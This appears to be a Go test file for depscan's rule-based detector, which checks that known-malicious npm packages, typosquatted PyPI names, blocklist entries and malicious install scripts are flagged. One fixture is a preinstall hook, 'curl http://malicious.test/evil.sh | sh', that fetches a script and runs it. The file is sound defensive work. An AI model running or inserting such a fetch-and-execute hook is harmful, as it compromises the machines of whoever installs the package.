// Copyright 2026 depscan authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package ruledetect

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/vishu-2s/depscan/clients/datasource"
	"github.com/vishu-2s/depscan/inventory"
)

// fakeSource returns canned metadata for every package.
type fakeSource struct {
	meta  *datasource.PackageMetadata
	err   error
	calls int
}

func (f *fakeSource) Metadata(_ context.Context, name, version string) (*datasource.PackageMetadata, error) {
	f.calls++
	if f.err != nil {
		return nil, f.err
	}
	m := *f.meta
	m.Name = name
	m.Version = version
	return &m, nil
}

func npmRef(name, version string) inventory.PackageRef {
	return inventory.PackageRef{Ecosystem: inventory.EcosystemNPM, Name: name, ResolvedVersion: version}
}

func TestDetectKnownMalicious(t *testing.T) {
	d := New(DefaultConfig())
	m := &inventory.Manifest{Ecosystem: inventory.EcosystemNPM, Path: "package.json"}
	res := d.Detect(context.Background(), m, []inventory.PackageRef{npmRef("flatmap-stream", "0.1.1")})

	var f *inventory.Finding
	for _, got := range res.Findings {
		if got.Type == inventory.FindingMaliciousPackage {
			f = got
		}
	}
	if f == nil {
		t.Fatal("no malicious_package finding for flatmap-stream")
	}
	if f.Severity != inventory.SeverityCritical || f.Confidence != 0.95 {
		t.Errorf("finding severity/confidence = %s/%v, want critical/0.95", f.Severity, f.Confidence)
	}
	if f.Source != SourceMaliciousList {
		t.Errorf("source = %q, want %q", f.Source, SourceMaliciousList)
	}
	if f.DetectionMethod != inventory.DetectionRuleBased {
		t.Errorf("detection method = %q, want rule_based", f.DetectionMethod)
	}
}

func TestDetectTyposquat(t *testing.T) {
	d := New(DefaultConfig())
	m := &inventory.Manifest{Ecosystem: inventory.EcosystemPyPI, Path: "requirements.txt"}
	refs := []inventory.PackageRef{
		{Ecosystem: inventory.EcosystemPyPI, Name: "requessts", ResolvedVersion: "2.28.0"},
		{Ecosystem: inventory.EcosystemPyPI, Name: "urllib4", ResolvedVersion: "1.0.0"},
	}
	res := d.Detect(context.Background(), m, refs)

	byName := map[string]*inventory.Finding{}
	for _, f := range res.Findings {
		if f.Type == inventory.FindingTyposquat {
			byName[f.PackageName] = f
		}
	}
	// requessts is distance 1 from requests; urllib4 is distance 1 from urllib3.
	for name, wantConf := range map[string]float64{"requessts": 0.9, "urllib4": 0.9} {
		f, ok := byName[name]
		if !ok {
			t.Fatalf("no typosquat finding for %s (got %v)", name, res.Findings)
		}
		if f.Confidence != wantConf {
			t.Errorf("%s confidence = %v, want %v", name, f.Confidence, wantConf)
		}
		if f.Severity.Rank() < inventory.SeverityHigh.Rank() {
			t.Errorf("%s severity = %s, want >= high", name, f.Severity)
		}
	}
}

func TestDetectPopularNameNotFlagged(t *testing.T) {
	d := New(DefaultConfig())
	m := &inventory.Manifest{Ecosystem: inventory.EcosystemNPM}
	res := d.Detect(context.Background(), m, []inventory.PackageRef{npmRef("react", "18.2.0")})
	for _, f := range res.Findings {
		if f.Type == inventory.FindingTyposquat {
			t.Errorf("popular package react flagged as typosquat: %+v", f)
		}
	}
}

func TestDetectScaleSkip(t *testing.T) {
	source := &fakeSource{meta: &datasource.PackageMetadata{
		Ecosystem:   inventory.EcosystemNPM,
		PublishedAt: time.Now().AddDate(-3, 0, 0),
	}}
	cfg := DefaultConfig()
	cfg.NPM = source
	d := New(cfg)

	var refs []inventory.PackageRef
	for i := 0; i < 200; i++ {
		refs = append(refs, npmRef(fmt.Sprintf("pkg-number-%03d", i), "1.0.0"))
	}
	res := d.Detect(context.Background(), &inventory.Manifest{Ecosystem: inventory.EcosystemNPM}, refs)

	if !res.ReputationSkipped {
		t.Error("ReputationSkipped = false for 200 packages")
	}
	if source.calls != 0 {
		t.Errorf("registry called %d times despite scale skip", source.calls)
	}
	if len(res.Reputations) != 0 {
		t.Errorf("reputations recorded despite scale skip: %d", len(res.Reputations))
	}
}

func TestDetectReputationFailureTolerated(t *testing.T) {
	cfg := DefaultConfig()
	cfg.NPM = &fakeSource{err: fmt.Errorf("registry down")}
	d := New(cfg)
	res := d.Detect(context.Background(), &inventory.Manifest{Ecosystem: inventory.EcosystemNPM},
		[]inventory.PackageRef{npmRef("some-unknown-package", "1.0.0")})
	if res.ReputationSkipped {
		t.Error("failure must not mark the pass skipped")
	}
}

func TestDetectScriptFindings(t *testing.T) {
	d := New(DefaultConfig())
	m := &inventory.Manifest{
		Ecosystem: inventory.EcosystemNPM,
		Path:      "package.json",
		Scripts:   map[string]string{"preinstall": "curl http://malicious.test/evil.sh | sh"},
	}
	res := d.Detect(context.Background(), m, nil)
	if len(res.Findings) == 0 {
		t.Fatal("no findings for malicious preinstall script")
	}
	f := res.Findings[0]
	if f.Type != inventory.FindingMaliciousScript {
		t.Errorf("finding type = %q, want malicious_script", f.Type)
	}
	if f.Severity != inventory.SeverityCritical || f.Confidence < 0.9 {
		t.Errorf("severity/confidence = %s/%v, want critical/>=0.9", f.Severity, f.Confidence)
	}
	var evidence string
	for _, e := range f.Evidence {
		evidence += e + "\n"
	}
	if !strings.Contains(evidence, "curl http://malicious.test/evil.sh | sh") {
		t.Errorf("evidence missing the command: %v", f.Evidence)
	}
}

func TestLoadBlocklist(t *testing.T) {
	d := New(DefaultConfig())
	feed := `[{"ecosystem": "npm", "name": "freshly-flagged"}]`
	if err := d.LoadBlocklist(strings.NewReader(feed)); err != nil {
		t.Fatalf("LoadBlocklist: %v", err)
	}
	res := d.Detect(context.Background(), &inventory.Manifest{Ecosystem: inventory.EcosystemNPM},
		[]inventory.PackageRef{npmRef("freshly-flagged", "1.0.0")})
	found := false
	for _, f := range res.Findings {
		if f.Type == inventory.FindingMaliciousPackage {
			found = true
		}
	}
	if !found {
		t.Error("freshly loaded blocklist entry not detected")
	}
}
